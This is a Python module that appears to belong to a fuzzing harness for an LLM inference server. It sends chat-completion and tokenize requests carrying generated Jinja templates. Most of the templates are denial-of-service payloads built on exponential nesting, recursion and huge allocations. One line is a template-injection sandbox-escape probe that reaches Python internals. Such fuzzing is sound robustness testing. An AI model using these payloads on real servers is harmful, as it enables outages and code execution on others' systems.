"""Chat templates of requests that run long, grow large or dig deep."""

from __future__ import annotations

import random
from typing import Any

from .attack import Target, log_uniform, post


async def attack(target: Target, rng: random.Random) -> str:
    """One chat, or a tokenization of one, under a template of its own."""
    content = rng.choice(("a", "a" * 5000, "{{ x }}"))
    fields: dict[str, Any] = {
        "messages": [{"role": "user", "content": content}] * rng.choice((1, 1, 300)),
        "chat_template": template(rng),
        "chat_template_kwargs": rng.choice(
            ({}, {}, {"x": [[0] * 100] * 100}, {"n": 10**6}, {"messages": 1}, {"loop": {}})
        ),
    }
    path = rng.choice(("/v1/chat/completions", "/tokenize"))
    return await post(target, rng, path, fields | ({"max_tokens": 2} if "chat" in path else {}))


def template(rng: random.Random) -> str:
    """A template that is valid, as a rule."""
    size = log_uniform(rng, 1, 100_000)
    depth = rng.choice((5, 20, 28, 40, 200))
    deep = "{% set ns = namespace(a=[], b=[]) %}" + f"{{% for i in range({depth}) %}}"
    deep += "{% set ns.a = [ns.a, ns.a] %}{% set ns.b = [ns.b, ns.b] %}{% endfor %}"
    doubling = (
        "{% set ns = namespace(x='a') %}{% for i in range("
        + str(depth)
        + ") %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
    )
    big = f"range({size * 10})|list"
    return rng.choice(
        (
            deep + "{{ ns.a == ns.b }}",
            deep + "{{ ns.a|tojson|length }}",
            deep + "{{ ns.a|string|length }}",
            deep + "{{ ns.a < ns.b }}",
            deep + "{{ ns.b in [ns.a] }}",
            deep + "{{ [ns.a, ns.b]|unique|list|length }}",
            deep + "{{ [ns.b, ns.a]|sort|length }}",
            deep + "{{ {'a': ns.a}|dictsort|string|length }}",
            deep + "{{ ns.a|map('tojson')|join|length }}",
            deep + "{{ [ns.a]|sum(start=ns.b)|length }}",
            doubling + "{{ ns.x|length }}",
            doubling + "{{ ns.x|tojson|length }}{{ ns.x|replace('a', 'bbbb')|length }}",
            doubling + "{{ ns.x.translate({97: ns.x})|length }}{{ ns.x|wordwrap(1)|length }}{{ ns.x|title }}",
            doubling + "{{ ns.x.split('a')|length }}{{ ns.x|escape|upper|length }}",
            "".join(f"{{% for v{level} in range(100000) %}}" for level in range(3)) + "{% endfor %}" * 3,
            f"{{{{ ({big})|tojson|length }}}}{{{{ ({big})|sort(reverse=true)|length }}}}",
            f"{{{{ ({big})|slice({size})|list|length }}}}{{{{ ({big})|batch(1)|list|length }}}}",
            f"{{{{ ({big})|map('string')|join(',')|length }}}}",
            f"{{{{ ({big})|groupby(0)|list }}}}",
            f"{{{{ 'a' * {10 ** rng.randint(1, 12)} }}}}",
            f"{{{{ '%{10 ** rng.randint(1, 12)}d' % 1 }}}}",
            f"{{{{ '{{:>{10 ** rng.randint(1, 12)}}}'.format(1) }}}}",
            f"{{{{ 'a'|center({10 ** rng.randint(1, 12)}) }}}}{{{{ 'a'|indent({10 ** rng.randint(1, 9)}) }}}}",
            f"{{{{ 2 ** {10 ** rng.randint(1, 9)} }}}}",
            f"{{{{ {'9' * min(size, 4000)} * {'9' * min(size, 4000)} }}}}",
            "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}",
            "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m("
            + str(depth)
            + ") }}",
            "{% for m in messages recursive %}{{ loop([m]) }}{% endfor %}",
            "{{ " + "(" * min(size, 5000) + "1" + ")" * min(size, 5000) + " }}",
            "{{ " + "not " * min(size, 20_000) + "1 }}",
            "{{ " + "1 + " * min(size, 20_000) + "1 }}",
            "{{ [" * min(size, 500) + "]" * min(size, 500) + " }}",
            "{% if 1 %}" * min(size, 5000) + "{% endif %}" * min(size, 5000),
            "{% set a = " + "[" * min(size, 3000) + "]" * min(size, 3000) + " %}{{ a }}",
            "{{ " + "a" * size + " }}",
            "{" * size,
            "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__ }}",
            "{{ messages|map(attribute='content')|map('length')|sum }}{{ messages[0].content * 1000 }}",
            "{{ strftime_now('%Y' * " + str(size) + ")|length }}",
            "{{ lipsum(n=" + str(size) + ")|length }}",
            "{% include 'x' %}{% import 'x' as y %}",
            "{% for i in range(" + str(size * 100) + ") %}{{ i }}{% endfor %}",
            "{{ messages|tojson(indent=" + str(10 ** rng.randint(1, 8)) + ")|length }}",
            "{{ (messages * " + str(size) + ")|tojson|length }}",
            "{{ raise_exception('x' * " + str(size * 100) + ") }}",
            "{% generation %}{{ messages }}{% endgeneration %}" * min(size, 1000),
        )
    )
